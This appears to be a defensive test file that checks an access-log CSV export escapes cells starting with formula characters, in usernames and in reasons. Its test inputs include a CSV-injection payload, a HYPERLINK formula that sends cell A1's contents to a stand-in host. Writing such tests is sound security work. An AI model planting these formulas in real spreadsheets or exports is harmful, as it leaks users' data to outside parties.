"""CSV injection in the access log export: every character OWASP lists as starting a spreadsheet formula
(= + - @ tab carriage return), at the start of a username or a reason, reaches the file inert and otherwise whole.
tests/core/test_jobs.py checks "=" end to end; these pin the rest of the list."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
from hypothesis import given
from hypothesis import strategies as st

from peerway.accounts.models import User
from peerway.core.models import AccessAction, AccessEvent
from peerway.core.services import access_event_csv_row

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _written(row: list[str]) -> list[str]:
    # Through the csv module as the export writes it, and back: what a spreadsheet is given.
    out = io.StringIO()
    csv.writer(out).writerow(row)
    [read] = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    return read


def _event(*, username: str = "sample", reason: str = "record page") -> AccessEvent:
    return AccessEvent(
        actor=User(username=username),
        actor_role="peer",
        subject_type="participant",
        subject_id=uuid.uuid4(),
        action=AccessAction.VIEWED,
        reason=reason,
    )


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_a_reason_starting_like_a_formula_is_written_inert(start: str) -> None:
    reason = f'{start}HYPERLINK("https://sample.example/?x="&A1,"Sample")'
    cell = _written(access_event_csv_row(_event(reason=reason)))[6]
    assert not cell.startswith(FORMULA_STARTS)
    assert cell.endswith(reason)


# Django's username validator allows @ . + - _ besides letters and digits: three of them start a formula.
@pytest.mark.parametrize("username", ["@sample", "+16125550101", "-sample"])
def test_a_username_starting_like_a_formula_is_written_inert(username: str) -> None:
    cell = _written(access_event_csv_row(_event(username=username)))[1]
    assert not cell.startswith(FORMULA_STARTS)
    assert cell.endswith(username)


SEPARATORS = (",", ";", "\t", "\r", "\n")


@given(st.text(alphabet=st.sampled_from(list("ab 1'\"") + list(SEPARATORS) + ["=", "+", "-", "@"]), max_size=24))
def test_no_piece_of_a_cell_split_where_a_spreadsheet_may_split_starts_like_a_formula(reason: str) -> None:
    """A spreadsheet set to split at semicolons (or tabs, or lines) reads "a;=1+2" as "a" and a formula, whether
    the comma-separated file quoted the cell or not. Split every way, no piece of the written row starts like a
    formula (after spaces and quotes), and taking the escaping apostrophes out gives the reason back."""
    out = io.StringIO()
    csv.writer(out).writerow(access_event_csv_row(_event(reason=reason)))
    line = out.getvalue()
    for separator in SEPARATORS:
        for piece in line.split(separator)[1:]:
            assert not piece.lstrip(' "\t\r\n').startswith(FORMULA_STARTS[:4]), (separator, piece, line)
    cell = _written(access_event_csv_row(_event(reason=reason)))[6]
    assert cell.replace("'", "") == reason.replace("'", "")


def test_a_formula_after_a_semicolon_is_escaped_where_it_starts() -> None:
    cell = _written(access_event_csv_row(_event(reason='Sample;=HYPERLINK("https://sample.example")')))[6]
    assert cell == 'Sample;\'=HYPERLINK("https://sample.example")'
